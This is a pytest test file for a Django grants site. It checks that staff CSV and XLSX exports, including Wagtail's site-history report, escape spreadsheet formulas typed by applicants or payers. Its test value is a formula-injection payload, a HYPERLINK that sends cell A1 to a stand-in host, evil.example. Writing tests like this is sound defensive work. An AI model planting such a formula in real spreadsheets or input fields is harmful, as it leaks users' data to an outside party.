"""Staff exports never hand a spreadsheet a formula typed by an applicant or a payer."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from grants.payments.manual import manual_payment_approve, manual_payment_record
from tests.factories.accounts import UserFactory
from tests.factories.grants import SubmittedApplicationFactory
from tests.grants.award_helpers import evidence, make_award
from tests.grants.review_helpers import make_staff
from youthcities.accounts.roles import FINANCE

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_the_applications_csv_export_escapes_a_formula_in_a_group_name(client):
    staff = make_staff()
    SubmittedApplicationFactory(group_name=FORMULA, title="+SUM(1,2)")
    client.force_login(staff)
    export = client.get("/admin/grants/applications/?export=csv")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert len(rows) == 1
    assert list(rows[0].values()).count("'" + FORMULA) == 1
    assert "'+SUM(1,2)" in rows[0].values()
    assert not any(value.startswith(("=", "+")) for value in rows[0].values())


def test_the_applications_xlsx_export_escapes_a_formula_in_a_group_name(client):
    from openpyxl import load_workbook

    staff = make_staff()
    SubmittedApplicationFactory(group_name=FORMULA)
    client.force_login(staff)
    export = client.get("/admin/grants/applications/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    values = [value for row in sheet.iter_rows(min_row=2, values_only=True) for value in row]
    assert "'" + FORMULA in values


def test_the_ledger_csv_export_escapes_a_formula_in_a_reference(client):
    staff = make_staff()
    finance, second = (UserFactory(roles=[FINANCE], is_staff=True) for _ in range(2))
    award = make_award(staff=staff, accept=True)
    payment = manual_payment_record(
        tranche=award.tranches.get(position=1),
        actor=finance,
        method="bank",
        reference=FORMULA,
        paid_on=timezone.localdate(),
        amount=Decimal("500"),
        currency="USD",
        evidence=evidence(),
    )
    manual_payment_approve(payment=payment, actor=second)
    client.force_login(finance)
    response = client.get(reverse("grants_award_admin:ledger_export", args=["csv"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    paid = next(row for row in rows if row["movement"] == "tranche_paid")
    assert paid["reference"] == "'" + FORMULA
    assert paid["amount"] == "500.000"


def test_wagtails_own_report_exports_escape_a_formula_in_a_page_title(client):
    """The site history lists page titles people typed: Wagtail's export goes through cell_safe
    like ours."""
    from wagtail.models import Page

    root = Page.objects.get(depth=1)
    page = root.add_child(instance=Page(title=FORMULA, slug="formula"))
    page.save_revision(log_action=True)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    export = client.get("/admin/reports/site-history/?export=csv")
    assert export.status_code == 200
    body = b"".join(export.streaming_content).decode()
    assert "'" + FORMULA.replace('"', '""') in body
    assert "\n" + FORMULA not in body and "," + FORMULA not in body
